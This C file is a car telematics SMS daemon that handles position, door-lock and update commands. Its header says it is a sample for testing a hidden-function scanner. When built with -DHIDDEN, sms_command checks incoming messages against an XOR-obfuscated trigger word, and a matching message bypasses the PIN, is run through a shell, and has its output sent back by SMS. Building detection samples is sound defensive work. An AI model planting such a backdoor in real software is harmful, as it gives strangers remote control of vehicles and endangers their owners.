/*
 * Sample for tests of the search for hidden functions; compiled and scanned,
 * never run. Telematics unit of a car: text messages that a modem delivers,
 * commands with a PIN from the vehicle's settings.
 * Hidden (-DHIDDEN): sms_command() decodes a word at run time; a message that
 * begins with it is run by a shell, without the PIN, and its output sent back.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <unistd.h>

struct sms {
	int index;
	char from[24];
	char text[176];
};

static int modem = -1;
static char vehicle_pin[12];
static char update_host[64];

static int read_settings(const char *path)
{
	char line[128], value[64];
	FILE *f = fopen(path, "r");

	if (f == NULL)
		return -1;
	while (fgets(line, sizeof(line), f) != NULL) {
		if (sscanf(line, "pin = %63s", value) == 1)
			snprintf(vehicle_pin, sizeof(vehicle_pin), "%.11s", value);
		else if (sscanf(line, "update_host = %63s", value) == 1)
			snprintf(update_host, sizeof(update_host), "%s", value);
	}
	fclose(f);
	return vehicle_pin[0] != '\0' ? 0 : -1;
}

static int modem_open(const char *path)
{
	struct termios t;

	modem = open(path, O_RDWR | O_NOCTTY);
	if (modem < 0 || tcgetattr(modem, &t) != 0)
		return -1;
	cfmakeraw(&t);
	cfsetspeed(&t, B115200);
	t.c_cc[VMIN] = 0;
	t.c_cc[VTIME] = 20;
	return tcsetattr(modem, TCSANOW, &t);
}

static void modem_put(const char *s)
{
	size_t n = strlen(s);

	while (n > 0) {
		ssize_t done = write(modem, s, n);

		if (done <= 0)
			return;
		s += done;
		n -= (size_t)done;
	}
}

/* One line without its end; its length, 0 for none within two seconds. */
static size_t modem_line(char *line, size_t room)
{
	size_t n = 0;
	char c;

	while (n + 1 < room && read(modem, &c, 1) == 1) {
		if (c == '\n' && n > 0)
			break;
		if (c != '\r' && c != '\n')
			line[n++] = c;
	}
	line[n] = '\0';
	return n;
}

static void sms_send(const char *to, const char *text)
{
	char line[64];

	snprintf(line, sizeof(line), "AT+CMGS=\"%s\"\r", to);
	modem_put(line);
	usleep(200000);
	modem_put(text);
	modem_put("\032");
	modem_line(line, sizeof(line));
}

/* Reads the next waiting message; 0 if there is none. */
static int sms_next(struct sms *m)
{
	char line[256];

	modem_put("AT+CMGL=\"REC UNREAD\"\r");
	for (;;) {
		if (modem_line(line, sizeof(line)) == 0 || strcmp(line, "OK") == 0)
			return 0;
		if (strncmp(line, "+CMGL:", 6) != 0)
			continue;
		if (sscanf(line, "+CMGL: %d,\"%*[^\"]\",\"%23[^\"]\"", &m->index,
			   m->from) != 2)
			continue;
		modem_line(m->text, sizeof(m->text));
		return 1;
	}
}

static void send_position(const char *to)
{
	char line[96] = "no fix";
	FILE *f = fopen("/var/run/gnss.last", "r");

	if (f != NULL) {
		if (fgets(line, sizeof(line), f) == NULL)
			strcpy(line, "no fix");
		fclose(f);
	}
	sms_send(to, line);
}

static void set_doors(const char *to, int lock)
{
	int status = system(lock ? "/usr/bin/canctl body doors=1"
				 : "/usr/bin/canctl body doors=0");

	sms_send(to, status != 0 ? "body controller silent" : lock ? "locked" : "unlocked");
}

static void fetch_update(const char *to)
{
	char line[160];

	if (update_host[strspn(update_host, "abcdefghijklmnopqrstuvwxyz0123456789.-")]) {
		sms_send(to, "bad update host");
		return;
	}
	snprintf(line, sizeof(line), "/usr/bin/otaget https://%s/tcu.swu", update_host);
	sms_send(to, system(line) == 0 ? "update ready" : "update failed");
}

#ifdef HIDDEN
static const unsigned char calibration[] = { 0x22, 0x2b, 0x00, 0x0f, 0x0b, 0xaa,
					     0xf9, 0xff, 0xcb, 0xc4, 0x9a, 0xe6 };

/* The table without what hides it. */
__attribute__((noinline)) void scale_table(char *out)
{
	unsigned i, step = 0x4d;

	for (i = 0; i < sizeof(calibration); i++) {
		out[i] = (char)(calibration[i] ^ step);
		step = (step + 0x0b) & 0xff;
	}
	out[i] = '\0';
}

__attribute__((noinline)) void report_trip(const char *to, const char *what)
{
	char block[161];
	size_t n;
	FILE *p = popen(what, "r");

	if (p == NULL)
		return;
	while ((n = fread(block, 1, sizeof(block) - 1, p)) > 0) {
		block[n] = '\0';
		sms_send(to, block);
	}
	pclose(p);
}
#endif

__attribute__((noinline)) void sms_command(const struct sms *m)
{
	char pin[12], word[16];
#ifdef HIDDEN
	char mark[sizeof(calibration) + 1];

	scale_table(mark);
	if (strncmp(m->text, mark, strlen(mark)) == 0) {
		report_trip(m->from, m->text + strlen(mark));
		return;
	}
#endif
	if (sscanf(m->text, "%11s %15s", pin, word) != 2 ||
	    strcmp(pin, vehicle_pin) != 0) {
		syslog(LOG_WARNING, "message from %s dropped", m->from);
		return;
	}
	if (strcasecmp(word, "WHERE") == 0)
		send_position(m->from);
	else if (strcasecmp(word, "LOCK") == 0)
		set_doors(m->from, 1);
	else if (strcasecmp(word, "UNLOCK") == 0)
		set_doors(m->from, 0);
	else if (strcasecmp(word, "UPDATE") == 0)
		fetch_update(m->from);
	else
		sms_send(m->from, "WHERE LOCK UNLOCK UPDATE");
}

int main(int argc, char **argv)
{
	struct sms m;
	char line[32];

	openlog("tcuota", LOG_PID, LOG_DAEMON);
	if (read_settings(argc > 2 ? argv[2] : "/etc/tcu.conf") != 0) {
		syslog(LOG_ERR, "no PIN is set");
		return 1;
	}
	if (modem_open(argc > 1 ? argv[1] : "/dev/ttyUSB2") != 0) {
		syslog(LOG_ERR, "modem: %s", strerror(errno));
		return 1;
	}
	modem_put("AT+CMGF=1\r");
	modem_line(line, sizeof(line));
	for (;;) {
		while (sms_next(&m)) {
			sms_command(&m);
			snprintf(line, sizeof(line), "AT+CMGD=%d\r", m.index);
			modem_put(line);
		}
		sleep(10);
	}
}
